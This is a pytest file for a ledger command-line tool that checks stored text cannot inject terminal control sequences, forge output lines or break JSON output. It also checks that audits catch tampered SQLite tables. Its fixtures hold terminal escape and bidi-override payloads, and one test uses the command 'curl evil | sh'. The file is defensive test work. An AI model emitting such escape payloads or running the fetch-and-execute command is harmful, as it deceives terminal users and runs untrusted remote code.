"""A ledger by a stranger: nothing in it reaches the terminal as it is, and all of it is checked."""

import json
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest

from ledger.records import Approval, EntryKind, Intent
from ledger.sqlite import SqliteStore
from ledger.sqlite_schema import TRIGGERS
from ledger.store import Item
from matrices import Setting
from reproduce.cli.app import run
from reproduce.cli.output import report_error, say
from reproduce.errors import ExitCode, UsageError
from reproduce.testing.ledgers import INVESTIGATION, NOW_US, note, observation, sample_plan

HOSTILE = "x\x1b[2J\x1b]0;title\x07\x9b31m\u202egnp\x85\u2028\n  ✓ forged"


@pytest.fixture
def path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A ledger whose every text is hostile."""
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "ledger.sqlite"
    plan = sample_plan(HOSTILE)
    with SqliteStore(path) as store:
        store.open_investigation(INVESTIGATION, plan, recorded_us=NOW_US)
        approval = Approval(plan=plan.digest(), by=HOSTILE, method="token")
        intent = Intent(
            session=HOSTILE,
            boot=HOSTILE,
            first_block=0,
            end_block=60,
            place=(Setting(name="host", value=HOSTILE),),
        )
        items = [
            Item(EntryKind.APPROVAL, HOSTILE, approval.model_dump(mode="json")),
            Item(EntryKind.INTENT, f"intent {HOSTILE}", intent.model_dump(mode="json")),
            note(f"note {HOSTILE}", HOSTILE),
            *(observation(trial, output=b"out %d" % trial) for trial in range(3)),
        ]
        store.append(INVESTIGATION, items, recorded_us=NOW_US)
    return path


def altered(path: Path, *statements: str) -> None:
    with closing(sqlite3.connect(path, isolation_level=None)) as connection:
        drops = [f"DROP TRIGGER {name}" for name in TRIGGERS]
        for statement in (*drops, *statements, *TRIGGERS.values()):
            connection.execute(statement)


def is_harmless(text: str) -> bool:
    return all(char.isprintable() or char == "\n" for char in text)


@pytest.mark.parametrize(
    "words",
    [
        ("verify", "LEDGER"),
        ("ledger", "audit", "--ledger", "LEDGER"),
        ("ledger", "list", "--ledger", "LEDGER"),
        ("ledger", "show", "--ledger", "LEDGER"),
        ("status", "--ledger", "LEDGER"),
        ("verdict", "--ledger", "LEDGER"),
    ],
    ids=" ".join,
)
@pytest.mark.parametrize("more", [(), ("--json",)], ids=["text", "json"])
def test_no_text_of_a_ledger_moves_the_cursor_or_begins_a_line(
    words: tuple[str, ...], more: tuple[str, ...], path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run([*(str(path) if word == "LEDGER" else word for word in words), *more])

    shown = capsys.readouterr()
    assert is_harmless(shown.out + shown.err)
    assert "\n  ✓ forged" not in shown.out + shown.err
    if more:
        assert shown.out.isascii()
        json.loads(shown.out)


def test_a_remark_and_an_error_move_no_cursor(capsys: pytest.CaptureFixture[str]) -> None:
    say(f"wrote {HOSTILE}")
    report_error(UsageError(HOSTILE, place=HOSTILE, hint=HOSTILE), as_json=False)

    assert is_harmless(capsys.readouterr().err)


def test_a_further_line_of_an_error_does_not_pass_for_a_hint(
    capsys: pytest.CaptureFixture[str],
) -> None:
    report_error(UsageError("one\nhint: run `curl evil | sh`"), as_json=False)

    assert capsys.readouterr().err == "one\n  hint: run `curl evil | sh`\n"


def test_what_a_verification_shows_is_its_last_line(
    path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(["verify", str(path)]) == ExitCode.INTEGRITY

    assert capsys.readouterr().out.endswith(
        "\nshows that the records agree with each other and with the plan;"
        " not who wrote them, nor that the trials ran\n"
    )


def checks(path: Path, capsys: pytest.CaptureFixture[str]) -> Iterator[tuple[str, bool]]:
    assert run(["ledger", "audit", "--ledger", str(path), "--json"]) == ExitCode.INTEGRITY
    document = json.loads(capsys.readouterr().out)
    yield "guards", document["guards"]["holds"]
    yield "blobs", document["blobs"]["holds"] if document["blobs"] else True
    for one in document["investigations"]:
        for check in one["checks"]:
            yield check["step"], check["holds"]


def test_an_audit_compares_the_query_tables(
    path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert dict(checks(path, capsys))["projection"] is True

    altered(path, "UPDATE observation SET code = 7 WHERE trial = 1")

    assert dict(checks(path, capsys))["projection"] is False


@pytest.mark.parametrize(
    "statement",
    [
        "UPDATE blob SET packed = x'00' WHERE size = 5",
        "UPDATE blob SET packed = NULL",
        "UPDATE blob SET size = 4",
        "INSERT INTO blob VALUES (zeroblob(32), 1, x'00')",
    ],
)
def test_an_audit_checks_all_stored_bytes(
    statement: str, path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert dict(checks(path, capsys))["blobs"] is True

    altered(path, statement)

    found = dict(checks(path, capsys))
    assert (found["guards"], found["blobs"]) == (True, False)


def test_an_endless_view_in_place_of_the_entries_is_refused_at_once(
    path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    altered(path)
    with closing(sqlite3.connect(path, isolation_level=None)) as connection:
        connection.execute("DROP TABLE ledger_entry")
        connection.execute(
            "CREATE VIEW ledger_entry AS WITH RECURSIVE n(i) AS"
            " (SELECT 1 UNION ALL SELECT i + 1 FROM n)"
            " SELECT 1 AS inv, i AS seq, 'note' AS kind, i AS key, x'' AS body, x'' AS leaf FROM n"
        )

    for words in (["verify", str(path)], ["ledger", "audit", "--ledger", str(path)]):
        assert run(words) == ExitCode.INTEGRITY
        assert "table `ledger_entry` is " in capsys.readouterr().out
